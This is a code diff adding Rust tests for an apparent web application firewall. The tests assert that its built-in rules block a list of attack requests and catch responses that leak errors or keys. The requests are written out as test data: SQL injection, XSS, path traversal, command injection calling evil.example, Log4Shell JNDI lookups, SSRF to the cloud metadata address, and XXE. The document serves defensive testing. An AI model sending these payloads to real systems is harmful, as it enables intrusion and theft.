@@ -13,6 +13,8 @@ use std::path::{Path, PathBuf};
 use gabion_waf::ftw::{self, Case, Expectation, Overrides};
 use gabion_waf::{Disk, RuleSet, Source, builtin};
 
+use crate::harness::{NOW, Request, get, ids, send, send_at};
+
 /// How many of a hundred critical cases are blocked at least, of those that were looked at and of those that were not.
 const BLOCKED_PERCENT_MIN: usize = 90;
 
@@ -193,4 +195,117 @@ fn critical_cases_of_crs_4_are_blocked_and_quality_cases_pass() {
         attacks_among.len(),
         "an attack among them passes now: strike it from the list"
     );
+}
+
+fn rules() -> RuleSet {
+    RuleSet::load(&builtin::sources(), &Disk).expect("the built-in rules load")
+}
+
+#[test]
+fn attacks_of_every_kind_are_stopped() {
+    let rules = rules();
+    for line in [
+        "GET /search?q=1%27+UNION+SELECT+password+FROM+users--",
+        "GET /search?q=%27+or+%271%27%3D%271",
+        "GET /item?id=1;WAITFOR+DELAY+%270:0:5%27",
+        "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "GET /search?q=%22+onmouseover%3Dalert(1)+x%3D%22",
+        "GET /download?file=../../../../etc/passwd",
+        "GET /static/..%252f..%252fetc/passwd",
+        "GET /page?include=http://192.0.2.66/shell.txt?",
+        "GET /ping?host=127.0.0.1;cat+/etc/passwd",
+        "GET /ping?host=$(curl+evil.example)",
+        "GET /hi?name=%7B%7B7*7%7D%7D",
+        "GET /?x=$%7Bjndi:ldap://evil.example/a%7D",
+        "GET /?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D",
+        "GET /user?name=*)(uid=*))(|(uid=*",
+        "GET /login?user[$ne]=x",
+        "GET /fetch?url=http://169.254.169.254/latest/meta-data/",
+        "GET /?o=O:8:%22Evil%22:1:%7Bs:1:%22a%22;i:1;%7D",
+        "GET /?o=rO0ABXNyABFqYXZh",
+        "GET /?code=%3C?php+system(%27id%27);",
+        "GET /?__proto__[admin]=1",
+        "GET /go?to=x%0d%0aSet-Cookie:+a=b",
+        "GET /.git/config",
+        "GET /.env",
+        "GET /backup.sql",
+        "GET /wp-config.php.bak",
+    ] {
+        assert!(send(&rules, get(line)).interruption.is_some(), "{line}");
+    }
+    let headers = ["Host: shop.example", "Content-Type: application/xml"];
+    let body =
+        b"<?xml version=\"1.0\"?><a><b>&lt;!ENTITY x SYSTEM &quot;file:///etc/passwd&quot;&gt;</b></a>";
+    let xml = Request { line: "POST /feed", headers: &headers, body };
+    assert!(send(&rules, xml).interruption.is_some());
+    let headers = ["Host: shop.example", "Content-Type: multipart/form-data; boundary=x"];
+    let body =
+        b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cat.php.jpg\"\r\n\r\na\r\n--x--\r\n";
+    let upload = Request { line: "POST /upload", headers: &headers, body };
+    assert_eq!(ids(&send(&rules, upload)), [11100, 19002]);
+}
+
+#[test]
+fn a_request_that_is_condemned_by_its_head_ends_there() {
+    let stop = send(&rules(), get("GET /.git/config")).interruption.expect("a stop");
+    assert_eq!((stop.rule, stop.status), (Some(19001), 403));
+}
+
+#[test]
+fn the_threshold_is_a_setting() {
+    let mut sources = vec![Source::text(
+        "setting.conf",
+        "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.inbound_anomaly_score_threshold=100\"",
+    )];
+    sources.extend(builtin::sources());
+    let rules = RuleSet::load(&sources, &Disk).expect("the rules load");
+    let report = send(&rules, get("GET /.git/config"));
+    assert_eq!((report.interruption, report.matches[0].id), (None, 10301));
+}
+
+#[test]
+fn answers_that_give_too_much_away_are_stopped_and_pages_are_not() {
+    let rules = rules();
+    let stopped = |answer: &str| {
+        send_at(&rules, get("GET /"), answer.as_bytes(), NOW).interruption.and_then(|stop| stop.rule)
+    };
+    for answer in [
+        "You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version",
+        "SQLSTATE[42S02]: Base table or view not found",
+        "Traceback (most recent call last):\n  File \"/srv/shop/views.py\", line 4",
+        "<b>Fatal error</b>: Uncaught Error in /var/www/html/index.php:12\nStack trace:\n#0 {main}",
+        "<html><head><title>Index of /backup</title></head>",
+        "<?php require 'config.php';",
+        "-----BEGIN RSA PRIVATE KEY-----",
+    ] {
+        assert_eq!(stopped(answer), Some(19004), "{answer}");
+    }
+    for answer in [
+        "<h1>Error</h1><p>Something went wrong. Please try again.</p>",
+        "<p>Our SQL course: SELECT, UNION and common syntax errors explained</p>",
+        "<p>Warning: hot! The index of teas is in the drawer.</p>",
+        "<script>try { buy() } catch (e) { console.error(e) }</script>",
+    ] {
+        assert_eq!(stopped(answer), None, "{answer}");
+    }
+}
+
+#[test]
+fn every_rule_is_in_the_reference_and_has_an_id_of_ours() {
+    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/reference/builtin-rules.md");
+    let page = std::fs::read_to_string(page).expect("the reference is there");
+    for source in builtin::sources() {
+        let Source::Text { name, text } = source else { panic!("the rules are compiled in") };
+        let text = String::from_utf8(text).expect("the rules are UTF-8");
+        let ids: Vec<u32> = text
+            .split("\"id:")
+            .skip(1)
+            .map(|rest| rest.split(',').next().and_then(|id| id.parse().ok()).expect("an id"))
+            .collect();
+        assert!(!ids.is_empty(), "{}", name.display());
+        for id in ids {
+            assert!((10_000..20_000).contains(&id), "{id}");
+            assert!(page.contains(&format!("| {id} |")), "{id} of {} is not on the page", name.display());
+        }
+    }
 }
